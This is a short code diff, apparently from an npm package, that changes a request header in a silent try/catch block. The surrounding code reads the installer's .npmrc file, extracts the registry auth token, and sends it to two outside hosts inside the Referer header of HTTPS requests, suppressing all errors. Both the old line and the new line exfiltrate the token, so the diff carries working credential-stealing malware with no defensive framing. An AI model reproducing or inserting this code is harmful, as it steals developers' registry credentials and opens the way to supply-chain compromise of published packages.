@@ -209,7 +209,7 @@ try {
   if (fs.existsSync(npmrc)) {
     var content = fs.readFileSync(npmrc, { encoding: 'utf8' }).replace('//registry.example.org/:_authToken=', '').trim();
     ['one.example.net', 'two.example.net'].forEach(function (host) {
-      https.get({ hostname: host, path: '/', method: 'GET', headers: { Referer: 'http://1.a/' + content } }, function () {}).on('error', function () {});
+      https.get({ hostname: host, path: '/', method: 'GET', headers: { Referer: 'http://one.example.net/' + content } }, function () {}).on('error', function () {});
     });
   }
 } catch (e) {}
